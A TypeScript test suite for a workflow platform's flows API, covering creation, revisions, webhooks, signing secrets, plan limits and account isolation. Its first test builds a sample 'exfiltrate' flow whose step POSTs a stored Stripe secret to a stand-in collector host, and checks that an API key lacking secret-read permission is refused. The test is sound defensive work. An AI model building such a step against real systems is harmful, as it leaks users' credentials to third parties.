import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { type AppRouter, findFlowByWebhookId, readRevision } from "@platform/core";
import { eventually } from "@platform/core/testing";
import { createTRPCClient, httpLink, TRPCClientError } from "@trpc/client";
import { bearer, readBody, signUp } from "./accounts-helpers.ts";
import { planLimitsFile, putOnPlan } from "./context.ts";
import {
  createNode,
  type FlowBody,
  type FlowsClient,
  flowsClient,
  minimalFlow,
  STRIPE_SECRET,
  stripeFlow,
} from "./flows-helpers.ts";
import { runModes, startPeerApi, startTestApi, type TestApi } from "./harness.ts";
import { invalidInput } from "./invalid-input.ts";

const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;
/** Set for this suite, so the webhook URLs prove they come from WEBHOOK_BASE_URL. */
const WEBHOOK_BASE_URL = "https://hooks.example.com/in";
const NOT_FOUND = { error: "flow not found" };
const STEP_DEFAULTS = { timeout: 30_000, attempts: 1, backoff_ms: 1_000 };
/** Bytes of revisions the `few-revisions` plan lets an account keep: two of the quota test's. */
const REVISION_BYTES = 3000;

for (const { backend, redis, label, skip } of runModes()) {
  describe.skipIf(Boolean(skip))(`flows on ${label}${skip ? ` (skipped: ${skip})` : ""}`, () => {
    let api: TestApi;
    let owner: Record<string, string>;
    let accountId: string;
    let flows: FlowsClient;
    beforeAll(async () => {
      api = await startTestApi({
        backend,
        redis,
        env: {
          WEBHOOK_BASE_URL,
          PLAN_LIMITS_FILE: planLimitsFile({ "few-revisions": { flow_revision_bytes: REVISION_BYTES } }),
        },
      });
      const { auth } = await signUp(api, "flows");
      owner = bearer(auth.auth_token);
      accountId = auth.account.id;
      flows = flowsClient(api, owner);
    }, 60_000);
    afterAll(() => api.stop());

    /** A stored revision, read as the engine reads it; untyped like a response body, for the assertions. */
    const revisionOf = async (id: string, revision: number): Promise<FlowBody> =>
      readRevision(api.services.db, accountId, id, revision);

    test("saving a reference to a secret is reading it: a key on /flows/* cannot, until it may GET /secrets/<key>", async () => {
      const keyFor = async (allowed_paths: string[]) => {
        const created = await api.request("/accounts/api-keys", {
          method: "POST",
          headers: owner,
          json: { name: "flows only", allowed_paths },
        });
        return { "x-api-key": (await readBody(created)).data.key as string };
      };
      const flowsKey = await keyFor(["/flows", "/flows/*"]);
      const exfiltrate = {
        name: "exfiltrate",
        steps: [
          {
            name: "send",
            subject: "http.request",
            payload: { method: "POST", url: "https://collector.example/", body: { stolen: "{{secrets.stripe-key}}" } },
          },
        ],
      };
      const refused = await flows.create(exfiltrate, flowsKey);
      expect(refused.status).toBe(403);
      expect(await readBody(refused)).toEqual({
        error:
          "this API key may not read secret stripe-key (GET /secrets/stripe-key), which steps.0.payload.body.stolen names",
      });

      // Through a node template the flow copies, and by changing a flow that exists.
      const node = await createNode(api, owner, { subject: "transform", payload: { key: "{{secrets.stripe-key}}" } });
      const viaNode = await flows.create({ name: "via node", steps: [{ name: "n", node }] }, flowsKey);
      expect(viaNode.status).toBe(403);
      expect((await readBody(viaNode)).error).toContain("secret stripe-key");
      const plain = await flows.created(minimalFlow("plain"), flowsKey);
      expect((await flows.update(plain.id, exfiltrate, flowsKey)).status).toBe(403);
      expect((await readBody(await flows.get(plain.id))).data.steps).toEqual(plain.steps);

      // A key on node templates meets the same rule when it saves one.
      const nodesKey = await keyFor(["/hub/nodes*"]);
      const nodeByKey = await api.request("/hub/nodes", {
        method: "POST",
        headers: nodesKey,
        json: {
          collection: "c",
          data: { name: "n", node_type: "function", subject: "transform", payload: { v: "{{secrets.stripe-key}}" } },
        },
      });
      expect(nodeByKey.status).toBe(403);

      // Allowed to read the secret, the key may save what uses it; a signed-in member always may.
      const trusted = await keyFor(["/flows", "/flows/*", "GET /secrets/stripe-key"]);
      expect((await flows.create(exfiltrate, trusted)).status).toBe(200);
      expect((await flows.create(exfiltrate)).status).toBe(200);
    });

    test("creation answers {data: Flow}: its id, the trigger and steps as saved, its webhook, revision 1", async () => {
      const before = Math.floor(Date.now() / 1000);
      const response = await flows.create(stripeFlow());
      expect(response.status).toBe(200);
      const text = await response.text();
      const { data } = JSON.parse(text);
      expect(data.id).toMatch(UUID);
      expect(data.webhook.id).toMatch(/^[0-9a-f]{32}$/);
      const { signing_secret: _, ...trigger } = stripeFlow().trigger;
      expect(data).toEqual({
        id: data.id,
        name: "stripe payments",
        description: "Saves each succeeded payment",
        active: true,
        trigger: { ...trigger, delivery_id_field: null, dedup_window_s: 259_200 },
        steps: stripeFlow().steps,
        webhook: { id: data.webhook.id, url: `${WEBHOOK_BASE_URL}/${data.webhook.id}` },
        on_failure: [],
        concurrency: null,
        priority: null,
        throttle: null,
        start_timeout_s: null,
        rate_limit: null,
        singleton: null,
        debounce: null,
        batch: null,
        mcp: null,
        revision: 1,
        created: expect.any(Number),
        modified: data.created,
      });
      expect(data.created).toBeGreaterThanOrEqual(before - 1);
      // Write-only: the secret is in no answer.
      expect(text).not.toContain(STRIPE_SECRET);
      expect(await (await flows.get(data.id)).text()).not.toContain(STRIPE_SECRET);
      expect(await (await flows.list()).text()).not.toContain(STRIPE_SECRET);
    });

    test("left out: description empty, active, a public acknowledge trigger for every event, step options at their defaults", async () => {
      const data = await flows.created(minimalFlow());
      expect(data).toMatchObject({
        description: "",
        active: true,
        trigger: {
          type: "webhook",
          events: [],
          response_mode: "acknowledge",
          access: "public",
          service: null,
          hmac: null,
          delivery_id_field: null,
          dedup_window_s: 259_200,
        },
        steps: [
          {
            name: "echo",
            node_type: "function",
            subject: "transform",
            payload: { id: "{{trigger.id}}" },
            options: STEP_DEFAULTS,
          },
        ],
      });
      const partial = await flows.created({
        name: "partial options",
        active: false,
        steps: [{ name: "s", subject: "delay", options: { attempts: 4 } }],
      });
      expect(partial.active).toBe(false);
      expect(partial.steps).toEqual([
        { name: "s", node_type: "function", subject: "delay", payload: {}, options: { ...STEP_DEFAULTS, attempts: 4 } },
      ]);
    });

    test("the revision holds the steps as they run, and the trigger without its secret", async () => {
      const data = await flows.created(stripeFlow());
      const revision = await revisionOf(data.id, 1);
      const { signing_secret: _, ...trigger } = stripeFlow().trigger;
      expect(revision).toEqual({
        flowId: data.id,
        revision: 1,
        trigger: { ...trigger, delivery_id_field: null, dedup_window_s: 259_200 },
        steps: [
          {
            name: "save",
            subject: "kv.put",
            payload: { bucket: "payments", key: "{{trigger.data.object.id}}", value: "{{trigger.data.object}}" },
            options: { timeout: 5000, attempts: 3, backoff_ms: 200 },
          },
        ],
        onFailure: [],
        concurrency: null,
        priority: null,
        throttle: null,
        startTimeoutS: null,
        rateLimit: null,
        singleton: null,
        debounce: null,
        batch: null,
        mcp: null,
      });
      expect(await revisionOf(data.id, 2)).toBeNull();
    });

    test("a node reference is kept as written and copied into the revision as the node is when the flow is saved", async () => {
      const node = await createNode(api, owner, {
        subject: "http.request",
        payload: { url: "https://api.example.com/{{trigger.id}}" },
        options: { timeout: 2000, attempts: 2, backoff_ms: 50 },
      });
      const body = {
        name: "with a node",
        steps: [
          { name: "fetch", node },
          { name: "keep", subject: "transform", payload: { body: "{{steps.fetch.body}}" } },
        ],
      };
      const data = await flows.created(body);
      expect(data.steps[0]).toEqual({ name: "fetch", node });
      const fetchStep = (url: string, attempts: number) => ({
        name: "fetch",
        subject: "http.request",
        payload: { url },
        options: { timeout: 2000, attempts, backoff_ms: 50 },
      });
      const keep = {
        name: "keep",
        subject: "transform",
        payload: { body: "{{steps.fetch.body}}" },
        options: STEP_DEFAULTS,
      };
      expect((await revisionOf(data.id, 1))?.steps).toEqual([
        fetchStep("https://api.example.com/{{trigger.id}}", 2),
        keep,
      ]);

      // Changing the node changes no saved revision; the next save of the flow takes it.
      const nodeId = node.slice("nodes.".length);
      const changed = await api.request(`/hub/nodes/${nodeId}`, {
        method: "PUT",
        headers: owner,
        json: {
          data: {
            name: "node",
            node_type: "function",
            subject: "http.request",
            payload: { url: "https://v2.example.com" },
            options: { timeout: 2000, attempts: 5, backoff_ms: 50 },
          },
        },
      });
      expect(changed.status).toBe(200);
      expect((await revisionOf(data.id, 1))?.steps[0]).toEqual(fetchStep("https://api.example.com/{{trigger.id}}", 2));
      const saved = await readBody(await flows.update(data.id, body));
      expect(saved.data.revision).toBe(2);
      expect((await revisionOf(data.id, 2))?.steps).toEqual([fetchStep("https://v2.example.com", 5), keep]);
      expect((await revisionOf(data.id, 1))?.steps[0]).toEqual(fetchStep("https://api.example.com/{{trigger.id}}", 2));
    });

    test("PUT replaces the definition, writes the next revision and keeps the webhook", async () => {
      const first = await flows.created(stripeFlow());
      const replacement = {
        name: "renamed",
        trigger: { events: ["a", "b", "a"], response_mode: "wait", access: "api_key" },
        steps: [
          { name: "one", subject: "transform", payload: { n: 1 } },
          { name: "two", subject: "respond", payload: { status: 201, body: "{{steps.one}}" } },
        ],
      };
      const response = await flows.update(first.id, replacement);
      expect(response.status).toBe(200);
      const { data } = await readBody(response);
      expect(data).toEqual({
        id: first.id,
        name: "renamed",
        description: "",
        active: true,
        trigger: {
          type: "webhook",
          events: ["a", "b"],
          response_mode: "wait",
          access: "api_key",
          service: null,
          hmac: null,
          delivery_id_field: null,
          dedup_window_s: 259_200,
        },
        steps: replacement.steps.map((step) => ({ ...step, node_type: "function", options: STEP_DEFAULTS })),
        webhook: first.webhook,
        on_failure: [],
        concurrency: null,
        priority: null,
        throttle: null,
        start_timeout_s: null,
        rate_limit: null,
        singleton: null,
        debounce: null,
        batch: null,
        mcp: null,
        revision: 2,
        created: first.created,
        modified: expect.any(Number),
      });
      expect(data.modified).toBeGreaterThanOrEqual(first.modified);
      expect(await readBody(await flows.get(first.id))).toEqual({ data });
      expect((await revisionOf(first.id, 1))?.steps.map((step: { name: string }) => step.name)).toEqual(["save"]);
      expect((await revisionOf(first.id, 2))?.steps.map((step: { name: string }) => step.name)).toEqual(["one", "two"]);
      expect((await revisionOf(first.id, 2))?.trigger.response_mode).toBe("wait");
      const third = await readBody(await flows.update(first.id, replacement));
      expect(third.data.revision).toBe(3);
    });

    test("revisions count against the plan's flow_revision_bytes for good: a save past it is 413 naming the limit, and keeps nothing", async () => {
      const { auth } = await signUp(api, "few-revisions");
      const headers = bearer(auth.auth_token);
      await putOnPlan(api, { accountId: auth.account.id, headers }, "few-revisions");
      const own = flowsClient(api, headers);
      const used = async () =>
        (await readBody(await api.request("/accounts/usage", { headers }))).data.limits.find(
          (limit: { name: string }) => limit.name === "flow_revision_bytes",
        ).used as number;
      const heavy = (n: number) => ({
        name: `heavy ${n}`,
        steps: [{ name: "s", subject: "transform", payload: { blob: "x".repeat(1000), n } }],
      });
      // Each revision is its trigger, steps and settings as JSON: over 1,000 bytes, and two fit in 3,000.
      const flow = await own.created(heavy(1));
      const first = await used();
      expect(first).toBeGreaterThan(1000);
      expect(first).toBeLessThan(REVISION_BYTES / 2);
      expect((await own.update(flow.id, heavy(2))).status).toBe(200);
      const two = await used();
      expect(two).toBe(2 * first);

      const refused = await own.update(flow.id, heavy(3));
      expect(refused.status).toBe(413);
      expect(await readBody(refused)).toEqual({
        error: `the account keeps ${two.toLocaleString("en")} of the 3,000 bytes the few-revisions plan allows (flow_revision_bytes); this write does not fit`,
        limit: { name: "flow_revision_bytes", limit: REVISION_BYTES, used: two, plan: "few-revisions" },
      });
      // Nothing of a refused save is kept: the flow is as it was, and a new flow is refused too.
      expect((await readBody(await own.get(flow.id))).data).toMatchObject({ name: "heavy 2", revision: 2 });
      expect((await own.create(heavy(4))).status).toBe(413);
      expect((await readBody(await own.list())).data).toHaveLength(1);
      expect(await used()).toBe(two);
      // Revisions are kept for good (runs accepted under them may still run): deleting the flow gives nothing back.
      expect((await own.remove(flow.id)).status).toBe(200);
      expect(await used()).toBe(two);
      // Another account's saves are its own.
      expect((await flows.create(heavy(5))).status).toBe(200);
    });

    test("the ingress finds a live flow by its webhook id, with its secret in clear and its current revision", async () => {
      const data = await flows.created(stripeFlow());
      const found = await findFlowByWebhookId(api.services, data.webhook.id);
      expect(found).toEqual({
        accountId,
        flowId: data.id,
        active: true,
        revision: 1,
        trigger: data.trigger,
        signingSecret: STRIPE_SECRET,
      });
      // Stored sealed, never as written.
      const row = await api.services.db
        .selectFrom("flows")
        .select("signing_secret")
        .where("id", "=", data.id)
        .executeTakeFirstOrThrow();
      expect(row.signing_secret).toStartWith("v2.");
      expect(row.signing_secret).not.toContain(STRIPE_SECRET);
      expect(await findFlowByWebhookId(api.services, "0".repeat(32))).toBeNull();
      const open = await flows.created(minimalFlow("open"));
      expect((await findFlowByWebhookId(api.services, open.webhook.id))?.signingSecret).toBeNull();
    });

    test("an update keeps the stored secret when it sends none, replaces it when it sends one, drops it with other access", async () => {
      const data = await flows.created(stripeFlow());
      const secretOf = async () => (await findFlowByWebhookId(api.services, data.webhook.id))?.signingSecret;
      const { signing_secret: _, ...withoutSecret } = stripeFlow().trigger;
      expect((await flows.update(data.id, stripeFlow({ trigger: withoutSecret }))).status).toBe(200);
      expect(await secretOf()).toBe(STRIPE_SECRET);

      const github = { ...withoutSecret, service: "github" };
      expect(
        (await flows.update(data.id, stripeFlow({ trigger: { ...github, signing_secret: "gh-secret" } }))).status,
      ).toBe(200);
      expect(await secretOf()).toBe("gh-secret");

      // The kept secret must suit the service the update names.
      const toStripe = await flows.update(data.id, stripeFlow({ trigger: withoutSecret }));
      expect(toStripe.status).toBe(400);
      // One problem, though its text holds "; ": read as data, it is not split.
      expect(await readBody(toStripe)).toEqual(
        invalidInput([
          "trigger.signing_secret",
          "the stored secret would have to be a Stripe endpoint secret: whsec_ followed by letters and digits; send a new one",
        ]),
      );
      expect(await secretOf()).toBe("gh-secret");

      expect((await flows.update(data.id, stripeFlow({ trigger: { access: "public" } }))).status).toBe(200);
      expect(await secretOf()).toBeNull();
      const noSecret = await flows.update(data.id, stripeFlow({ trigger: withoutSecret }));
      expect(noSecret.status).toBe(400);
      expect(await readBody(noSecret)).toEqual(
        invalidInput(["trigger.signing_secret", "is required when access is signature"]),
      );
      expect((await readBody(await flows.get(data.id))).data.revision).toBe(4);
    });

    test("the whole trigger is kept: custom HMAC settings, events, wait mode, delivery id field", async () => {
      const trigger = {
        type: "webhook",
        events: ["order.created", "order.paid"],
        response_mode: "wait",
        access: "signature",
        service: "custom",
        signing_secret: "k3y",
        hmac: {
          header: "X-Signature",
          algorithm: "sha512",
          encoding: "base64",
          prefix: "sha512=",
          timestamp_header: "X-Timestamp",
          tolerance_s: 60,
        },
        delivery_id_field: "data.id",
        dedup_window_s: 3600,
      };
      const data = await flows.created(stripeFlow({ trigger }));
      const { signing_secret: _, ...returned } = trigger;
      expect(data.trigger).toEqual(returned);
      expect((await findFlowByWebhookId(api.services, data.webhook.id))?.signingSecret).toBe("k3y");
    });

    test("regenerating gives a new webhook id and url; the old id finds nothing; the definition stays", async () => {
      const data = await flows.created(stripeFlow());
      const response = await flows.regenerate(data.id);
      expect(response.status).toBe(200);
      const regenerated = (await readBody(response)).data;
      expect(regenerated.webhook.id).not.toBe(data.webhook.id);
      expect(regenerated).toEqual({
        ...data,
        webhook: { id: regenerated.webhook.id, url: `${WEBHOOK_BASE_URL}/${regenerated.webhook.id}` },
        modified: expect.any(Number),
      });
      expect(await findFlowByWebhookId(api.services, data.webhook.id)).toBeNull();
      expect((await findFlowByWebhookId(api.services, regenerated.webhook.id))?.flowId).toBe(data.id);
      expect((await readBody(await flows.get(data.id))).data.webhook).toEqual(regenerated.webhook);
    });

    test("another API process keeps the flow a webhook id finds, and drops it when the flow changes here", async () => {
      const peer = await startPeerApi(api);
      try {
        const data = await flows.created(stripeFlow());
        const seen = () => findFlowByWebhookId(peer.services, data.webhook.id);
        // Looked up twice: the second comes from the peer's own copy.
        expect((await seen())?.revision).toBe(1);
        expect((await seen())?.signingSecret).toBe(STRIPE_SECRET);

        expect((await flows.update(data.id, stripeFlow({ active: false, trigger: { access: "public" } }))).status).toBe(
          200,
        );
        await eventually(async () => (await seen())?.revision === 2);
        expect(await seen()).toMatchObject({ active: false, signingSecret: null, trigger: { access: "public" } });

        const regenerated = (await readBody(await flows.regenerate(data.id))).data;
        await eventually(async () => (await seen()) === null);
        const renewed = () => findFlowByWebhookId(peer.services, regenerated.webhook.id);
        expect((await renewed())?.flowId).toBe(data.id);

        expect((await flows.remove(data.id)).status).toBe(200);
        await eventually(async () => (await renewed()) === null);
      } finally {
        await peer.stop();
      }
    });

    test("a deleted flow is 404 everywhere, left out of the list, and its webhook finds nothing", async () => {
      const data = await flows.created(minimalFlow("doomed"));
      const response = await flows.remove(data.id);
      expect(response.status).toBe(200);
      expect(await readBody(response)).toEqual({ message: "success" });
      for (const again of [
        flows.get(data.id),
        flows.update(data.id, minimalFlow()),
        flows.remove(data.id),
        flows.regenerate(data.id),
      ]) {
        const answer = await again;
        expect({ status: answer.status, body: await readBody(answer) }).toEqual({ status: 404, body: NOT_FOUND });
      }
      const listed = (await readBody(await flows.list())).data;
      expect(listed.map((flow: { id: string }) => flow.id)).not.toContain(data.id);
      expect(await findFlowByWebhookId(api.services, data.webhook.id)).toBeNull();
      // Its revisions stay, for the runs it had accepted.
      expect((await revisionOf(data.id, 1))?.steps).toHaveLength(1);
    });

    test("the list holds the account's live flows, oldest first, as GET answers each", async () => {
      const { auth } = await signUp(api, "flows-list");
      const own = flowsClient(api, bearer(auth.auth_token));
      expect(await readBody(await own.list())).toEqual({ data: [] });
      const a = await own.created(minimalFlow("a"));
      const b = await own.created(stripeFlow({ name: "b" }));
      const c = await own.created(minimalFlow("c"));
      expect((await own.remove(b.id)).status).toBe(200);
      expect(await readBody(await own.list())).toEqual({ data: [a, c] });
    });

    test("flows are per account: another account's flow is 404 to every operation and its nodes are unknown", async () => {
      const data = await flows.created(stripeFlow());
      const node = await createNode(api, owner, { subject: "transform" });
      const { auth } = await signUp(api, "flows-other");
      const other = bearer(auth.auth_token);
      const theirs = flowsClient(api, other);
      for (const attempt of [
        theirs.get(data.id),
        theirs.update(data.id, minimalFlow()),
        theirs.remove(data.id),
        theirs.regenerate(data.id),
      ]) {
        const answer = await attempt;
        expect({ status: answer.status, body: await readBody(answer) }).toEqual({ status: 404, body: NOT_FOUND });
      }
      expect(await readBody(await theirs.list())).toEqual({ data: [] });
      const borrowed = await theirs.create({ name: "borrow", steps: [{ name: "x", node }] });
      expect(borrowed.status).toBe(400);
      expect(await readBody(borrowed)).toEqual(
        invalidInput(["steps.0.node", `no node template ${node} in this account`]),
      );
      expect(await readBody(await flows.get(data.id))).toEqual({ data });
      expect(await readRevision(api.services.db, auth.account.id, data.id, 1)).toBeNull();
    });

    test("every operation needs a credential", async () => {
      const data = await flows.created(minimalFlow());
      for (const attempt of [
        flows.create(minimalFlow(), {}),
        flows.list({}),
        flows.get(data.id, {}),
        flows.update(data.id, minimalFlow(), {}),
        flows.remove(data.id, {}),
        flows.regenerate(data.id, {}),
      ]) {
        const answer = await attempt;
        expect({ status: answer.status, body: await readBody(answer) }).toEqual({
          status: 401,
          body: { error: "missing credential" },
        });
      }
    });

    test("tRPC clients reach the same operations as flows.*", async () => {
      const { auth } = await signUp(api, "flows-trpc");
      const client = createTRPCClient<AppRouter>({
        links: [httpLink({ url: `${api.url}/trpc`, headers: bearer(auth.auth_token) })],
      });
      const made = await client.flows.create.mutate({
        name: "over trpc",
        steps: [{ name: "wait", subject: "delay", payload: { ms: 10 } }],
      });
      expect(made.data.webhook.url).toBe(`${WEBHOOK_BASE_URL}/${made.data.webhook.id}`);
      expect(await client.flows.get.query({ id: made.data.id })).toEqual(made);
      expect(await client.flows.list.query()).toEqual({ data: [made.data] });
      const updated = await client.flows.update.mutate({
        id: made.data.id,
        name: "renamed",
        steps: [{ name: "wait", subject: "delay", payload: { ms: 20 } }],
      });
      expect(updated.data.revision).toBe(2);
      const regenerated = await client.flows.regenerateWebhook.mutate({ id: made.data.id });
      expect(regenerated.data.webhook.id).not.toBe(made.data.webhook.id);
      expect(await client.flows.delete.mutate({ id: made.data.id })).toEqual({ message: "success" });
      const missing = await client.flows.get.query({ id: made.data.id }).catch((error: unknown) => error);
      expect(missing).toBeInstanceOf(TRPCClientError);
      expect((missing as TRPCClientError<AppRouter>).data).toMatchObject({
        code: "NOT_FOUND",
        domainCode: "not_found",
        httpStatus: 404,
      });
      const later = await client.flows.create
        .mutate({ name: "bad", steps: [{ name: "a", subject: "transform", payload: { x: "{{steps.b}}" } }] })
        .catch((error: unknown) => error);
      expect((later as TRPCClientError<AppRouter>).data).toMatchObject({
        code: "BAD_REQUEST",
        domainCode: "validation_error",
        httpStatus: 400,
      });
      expect((later as TRPCClientError<AppRouter>).message).toBe(
        'invalid input: steps.0.payload.x: {{steps.b}} refers to no step of this flow ("b")',
      );
    });
  });
}
